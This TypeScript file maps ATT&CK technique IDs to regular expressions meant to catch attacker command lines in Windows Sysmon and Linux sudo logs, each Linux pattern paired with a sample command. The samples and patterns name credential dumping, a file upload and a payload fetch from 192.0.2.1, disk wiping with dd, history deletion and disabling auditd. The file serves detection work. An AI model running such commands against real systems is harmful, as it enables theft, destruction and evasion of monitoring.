/** Command lines by which a technique shows itself: a first draft for a person to tune, never a finished rule. */
export interface TechniquePattern {
  /** PCRE2, in any case, on the command line of a Windows process (Sysmon event 1). Without `<` and `&`. */
  readonly windows?: string
  /** PCRE2 on a line of sudo's log, and a command that it must find. */
  readonly linux?: { readonly pattern: string; readonly example: string }
}

/** Written by hand from public knowledge of the tools. Commands on Windows and Linux only: Wazuh sees those everywhere. */
export const techniquePatterns: Readonly<Record<string, TechniquePattern>> = {
  'T1003.001': { windows: String.raw`(procdump\S*\s.*lsass|comsvcs(\.dll)?\W.*minidump|lsass\S*\.dmp)` },
  'T1003.002': { windows: String.raw`reg(\.exe)?\s+save\s+hklm\\(sam|system|security)` },
  'T1003.003': { windows: String.raw`(ntdsutil\W.*ifm|ntds\.dit)` },
  'T1003.008': {
    linux: {
      pattern: String.raw`COMMAND=\S*(cat|cp|head|tail|less)\s.*/etc/shadow`,
      example: '/usr/bin/cat /etc/shadow',
    },
  },
  T1018: { windows: String.raw`(net1?(\.exe)?\s+view|nltest(\.exe)?\s.*/dclist|dsquery\s+computer)` },
  'T1021.002': { windows: String.raw`net1?(\.exe)?\s+use\s.*\\\\\S+\\(c|admin|ipc)\$` },
  'T1027.010': { windows: String.raw`powershell\S*\s.*-e(nc|ncodedcommand)?\s+[a-z0-9+/=]{40,}` },
  T1033: { windows: String.raw`(whoami(\.exe)?\s+/(all|priv|groups)|quser(\.exe)?)` },
  T1047: { windows: String.raw`wmic(\.exe)?\s.*process\s+call\s+create` },
  'T1048.003': {
    linux: {
      pattern: String.raw`COMMAND=\S*(curl|wget|ftp)\s.*(-T|--upload-file|--post-file)`,
      example: '/usr/bin/curl -T /root/archive.tgz ftp://192.0.2.1/',
    },
  },
  'T1053.003': {
    linux: {
      pattern: String.raw`COMMAND=\S*(crontab\s+-e|(tee|cp)\s.*/etc/cron)`,
      example: '/usr/bin/crontab -e',
    },
  },
  'T1053.005': { windows: String.raw`schtasks(\.exe)?\s.*/create` },
  'T1059.001': {
    windows: String.raw`powershell\S*\s.*(-w(indowstyle)?\s+hidden|-enc|downloadstring|invoke-expression|\biex\b)`,
  },
  'T1059.003': { windows: String.raw`cmd(\.exe)?\s.*/c\s.*(powershell|certutil|bitsadmin|mshta)` },
  'T1069.002': { windows: String.raw`net1?(\.exe)?\s+group\s.*/domain` },
  'T1070.001': { windows: String.raw`(wevtutil(\.exe)?\s+(cl|clear-log)|clear-eventlog)` },
  'T1070.003': {
    linux: {
      pattern: String.raw`COMMAND=\S*(rm|shred|truncate)\s.*\.(bash|zsh|sh)_history`,
      example: '/usr/bin/rm /root/.bash_history',
    },
  },
  T1082: { windows: String.raw`systeminfo(\.exe)?` },
  'T1087.002': { windows: String.raw`net1?(\.exe)?\s+user\s.*/domain` },
  'T1098.004': {
    linux: {
      pattern: String.raw`COMMAND=\S*(tee|cp|mv|sed)\s.*authorized_keys`,
      example: '/usr/bin/tee -a /root/.ssh/authorized_keys',
    },
  },
  T1105: {
    windows: String.raw`(certutil\S*\s.*-urlcache|bitsadmin\S*\s.*/transfer|invoke-webrequest|downloadfile)`,
    linux: {
      pattern: String.raw`COMMAND=\S*(curl|wget)\s.*https?://`,
      example: '/usr/bin/wget http://192.0.2.1/payload -O /tmp/payload',
    },
  },
  T1112: { windows: String.raw`reg(\.exe)?\s+add\s+hk` },
  'T1136.001': {
    windows: String.raw`net1?(\.exe)?\s+user\s.*/add`,
    linux: { pattern: String.raw`COMMAND=\S*(useradd|adduser)\s`, example: '/usr/sbin/useradd -m helper' },
  },
  'T1218.005': { windows: String.raw`mshta(\.exe)?\W.*(https?:|javascript:|vbscript:)` },
  'T1218.010': { windows: String.raw`regsvr32(\.exe)?\s.*(scrobj|https?:|/i:)` },
  'T1218.011': { windows: String.raw`rundll32(\.exe)?\W.*(javascript:|\\(temp|appdata|programdata)\\)` },
  T1482: { windows: String.raw`nltest(\.exe)?\s.*/domain_trusts` },
  T1485: {
    linux: {
      pattern: String.raw`COMMAND=\S*(rm\s+-rf?\s+/|dd\s.*of=/dev/[sv]d)`,
      example: '/usr/bin/dd if=/dev/zero of=/dev/sda',
    },
  },
  T1486: { windows: String.raw`cipher(\.exe)?\s+/w` },
  T1489: {
    windows: String.raw`(net1?(\.exe)?\s+stop|sc(\.exe)?\s+(stop|config\s.*disabled)|taskkill\S*\s.*/f)`,
    linux: {
      pattern: String.raw`COMMAND=\S*systemctl\s+(stop|disable|mask)\s`,
      example: '/usr/bin/systemctl stop auditd',
    },
  },
  T1490: {
    windows: String.raw`(vssadmin(\.exe)?\s+delete\s+shadows|wmic\W.*shadowcopy\s+delete|wbadmin\s+delete|bcdedit\s.*recoveryenabled\s+no)`,
  },
  'T1543.002': {
    linux: {
      pattern: String.raw`COMMAND=\S*(tee|cp|mv)\s.*/etc/systemd/system/`,
      example: '/usr/bin/cp /tmp/a.service /etc/systemd/system/a.service',
    },
  },
  'T1543.003': { windows: String.raw`sc(\.exe)?\s.*create\s.*binpath` },
  'T1547.001': { windows: String.raw`reg(\.exe)?\s+add\s.*\\currentversion\\run` },
  'T1548.003': {
    linux: {
      pattern: String.raw`COMMAND=\S*(visudo|(tee|cp|sed)\s.*/etc/sudoers)`,
      example: '/usr/sbin/visudo',
    },
  },
  'T1560.001': {
    windows: String.raw`(rar|7z|7za)(\.exe)?\s+a\s.*-(hp|p)\S`,
    linux: {
      pattern: String.raw`COMMAND=\S*(zip|7z)\s.*-(P|p|e)\S*`,
      example: '/usr/bin/zip -P secret /tmp/a.zip /srv/data',
    },
  },
  'T1562.001': {
    windows: String.raw`(set-mppreference\s.*-disable|sc(\.exe)?\s+(stop|delete)\s+(windefend|sense|sysmon|wazuhsvc))`,
    linux: {
      pattern: String.raw`COMMAND=\S*systemctl\s+(stop|disable|mask)\s+(auditd|wazuh|falcon|rsyslog)`,
      example: '/usr/bin/systemctl stop auditd',
    },
  },
  'T1562.004': {
    windows: String.raw`netsh(\.exe)?\s.*(advfirewall|firewall)\s.*(off|disable|add\s+rule)`,
    linux: {
      pattern: String.raw`COMMAND=\S*(ufw\s+disable|iptables\s+-F)`,
      example: '/usr/sbin/iptables -F',
    },
  },
  'T1569.002': { windows: String.raw`(psexe(c|svc)\S*\s|sc(\.exe)?\s+\\\\\S+\s+(create|start))` },
  T1572: { windows: String.raw`(plink|ssh)(\.exe)?\s.*-[RLD]\s` },
}
